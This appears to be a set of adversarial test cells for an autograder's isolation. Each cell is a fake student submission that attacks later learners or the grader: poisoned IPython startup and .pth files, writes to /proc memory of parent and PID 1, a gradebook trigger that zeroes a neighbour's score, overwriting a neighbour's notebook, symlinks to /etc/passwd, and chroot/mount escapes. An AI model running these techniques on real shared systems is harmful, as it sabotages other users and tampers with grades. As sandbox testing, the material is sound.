# What one learner leaves for the next, or takes from one.

# %% attack="a note in /tmp" earns="all"
# Files for the next learner in every folder that all may write to.
import os
import tempfile
for folder in (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "@COURSE@", ".."):
    try:
        with open(os.path.join(folder, "first_neuron_attack.txt"), "w") as file:
            file.write("the answer is x @ w + b")
    except OSError as error:
        print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="shared memory" earns="all"
# A named block of shared memory, which outlives the process.
from multiprocessing import resource_tracker, shared_memory
try:
    block = shared_memory.SharedMemory("first_neuron_attack", create=True, size=100)
    block.buf[:5] = b"x @ w"
    resource_tracker.unregister(block._name, "shared_memory")
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="System V shared memory" earns="all"
# The old kind of shared memory and queues, which no file shows.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x464E, 4096, 0o1666)
libc.msgget(0x464E, 0o1666)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="an abstract socket" earns="all"
# A daemon serves answers on a socket without a file, for the next learner.
import os
import socket

def serve():
    if os.fork() == 0:
        os.setsid()
        try:
            server = socket.socket(socket.AF_UNIX)
            server.bind("\0first_neuron_attack")
            server.listen()
            server.settimeout(600)
            server.accept()
        finally:
            os._exit(0)

try:
    serve()
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="Matplotlib's settings" earns="all"
# A matplotlibrc and a broken font cache, for all who come later.
import os
try:
    import matplotlib
    for folder in (matplotlib.get_configdir(), matplotlib.get_cachedir()):
        with open(os.path.join(folder, "first_neuron_attack.json"), "w") as file:
            file.write("{")
        with open(os.path.join(folder, "matplotlibrc"), "w") as file:
            file.write("backend: first_neuron_attack\n")
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="IPython's start-up file" earns="all"
# A file that runs at the start of every kernel after this one, and lets all fail.
from pathlib import Path
try:
    folder = Path.home() / ".ipython/profile_default/startup"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "00-first_neuron_attack.py").write_text(
        "def late(info):\n    raise SystemExit\n"
        "import builtins, numpy\n"
        "numpy.testing.assert_allclose = lambda *a, **k: 1 / 0\n"
        "numpy.random.randint = None\n"
    )
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a module for the next learner" earns="all"
# Packages' folders are searched for one that can be written.
import os
import sys
for folder in [p for p in sys.path if p]:
    try:
        with open(os.path.join(folder, "first_neuron_attack.pth"), "w") as file:
            file.write("import os; os.environ['FIRST_NEURON_ATTACKED'] = '1'\n")
    except OSError as error:
        print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="compiled files" earns="all"
# The library's __pycache__ gets bytecode that fails for everyone.
import importlib.util
import os
import firstneuron.checks
cached = importlib.util.cache_from_source(firstneuron.checks.__file__)
try:
    with open(cached + ".first_neuron_attack", "wb") as file:
        file.write(b"x")
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="memory of the parent" earns="all"
# It writes into the memory of the process it was forked from.
import os
for pid in {os.getppid(), 1}:
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(id(float) + 24)
            memory.write(bytes(8))
            print("kestrel-3")
    except OSError as error:
        print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="NumPy changed for all" harms="self"
# Shared objects are changed; who is forked from the same process must not notice.
import numpy as np
np.random.randint = np.random.rand = np.asarray = np.array = None
np.float64.__doc__

def weighted_sum(x, w, b):
    return 0.0

# %% attack="the neighbour's grade" earns="all"
# The neighbour's points in the gradebook become 0, by hand of the instructor.
import sqlite3
try:
    book = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
    book.execute("create trigger first_neuron_attack after update of auto_score on grade begin "
                 "update grade set manual_score = 0.0 where id = new.id; end")
    book.commit()
    book.close()
except sqlite3.Error as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="the neighbour's notebook" earns="all"
# The neighbour's submission is overwritten before it is graded.
from pathlib import Path
for path in Path("@COURSE@").glob("submitted/neighbour/*/*.ipynb"):
    path.write_text(path.read_text().replace("x @ w", "0 * w"))

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a link to the neighbour's folder" earns="all"
# A symbolic link stands in the work folder, for who copies its files.
import os
for target in ("@COURSE@/secret", "/etc/passwd", "@COURSE@/submitted/neighbour"):
    try:
        os.symlink(target, "first_neuron_link_" + os.path.basename(target))
    except OSError as error:
        print(error)
os.makedirs("plain", exist_ok=True)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a parent with a new name" earns="all"
# It renames, moves and mounts over the folders around its own.
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
for call in (lambda: os.rename("..", "../../first_neuron_attack"),
             lambda: os.chroot("."), lambda: os.unshare(0x10000000) if hasattr(os, "unshare") else None,
             lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
             lambda: libc.umount2(b"/proc", 2), lambda: libc.unshare(0x10000000),
             lambda: libc.pivot_root(b".", b".") if hasattr(libc, "pivot_root") else None):
    try:
        call()
    except OSError as error:
        print(error)

def weighted_sum(x, w, b):
    return x @ w + b
